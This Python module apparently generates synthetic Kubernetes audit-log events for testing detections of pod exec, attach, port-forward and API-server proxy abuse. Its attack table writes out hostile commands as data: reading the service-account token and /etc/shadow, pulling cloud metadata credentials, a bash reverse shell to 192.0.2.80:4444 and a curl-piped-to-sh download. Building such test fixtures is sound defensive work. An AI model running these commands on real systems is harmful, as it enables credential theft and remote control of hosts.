"""Commands in pods, sessions, and the proxies of the API server."""

from __future__ import annotations

from typing import Any

from k8sidx.generate.attack import Attack, attack
from k8sidx.generate.step import Step, again, ask

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def run(*command: str, **more: Any) -> Attack:
    """An exec as kubectl makes it today: two events, the second when the session ends."""
    query = [("command", word) for word in command]
    query += [("container", "web"), ("stdout", "true"), ("stderr", "true")]
    request_fields: dict[str, Any] = {"subresource": "exec", "code": 101, "query": query} | more
    return attack(
        ask("get", "pods", "web-0", stage="ResponseStarted", **request_fields),
        ask("get", "pods", "web-0", seconds=4, **request_fields),
    )


def proxied(resource: str, path: str, verb: str = "get", code: int = 200) -> Step:
    where = "" if resource == "nodes" else "/namespaces/shop"
    uri = f"/api/v1{where}/{resource}/node-2/proxy/{path}"
    return ask(verb, resource, "node-2", subresource="proxy", path=uri, code=code)


ATTACKS = {
    "pod_exec": run("ls", "-la"),
    "exec_service_account_token": run("cat", TOKEN),
    "exec_sensitive_file": run("cat", "/etc/shadow"),
    "exec_cloud_metadata": run("curl", "-s", METADATA),
    "exec_reverse_shell": run("bash", "-c", "bash -i >& /dev/tcp/192.0.2.80/4444 0>&1"),
    "exec_download": run("sh", "-c", "curl -s http://192.0.2.80/stage.sh | sh"),
    "exec_shell_or_tool": run("/bin/bash"),
    "kubectl_cp_from_pod": run("tar", "cf", "-", "/var/lib/app"),
    "exec_kube_system": run("id", namespace="kube-system"),
    "exec_forbidden_repeat": attack(
        again(ask("create", "pods", "web-{n}", subresource="exec", code=403), 6, 5)
    ),
    "pod_attach": attack(
        ask("get", "pods", "web-0", subresource="attach", code=101, stage="ResponseStarted"),
        ask("get", "pods", "web-0", subresource="attach", code=101, seconds=9),
    ),
    "pod_portforward": attack(
        ask("create", "pods", "postgres-0", subresource="portforward", code=101)
    ),
    "ephemeral_container_added": attack(
        ask("patch", "pods", "web-0", subresource="ephemeralcontainers")
    ),
    "node_proxy_request": attack(proxied("nodes", "runningpods/")),
    "node_proxy_exec": attack(proxied("nodes", "run/shop/web-0/web?cmd=id", "create", 200)),
    "pod_proxy_request": attack(proxied("pods", "admin")),
    "service_proxy_request": attack(proxied("services", ".env")),
    "pod_log_burst": attack(again(ask("get", "pods", "web-{n}", subresource="log"), 25)),
}
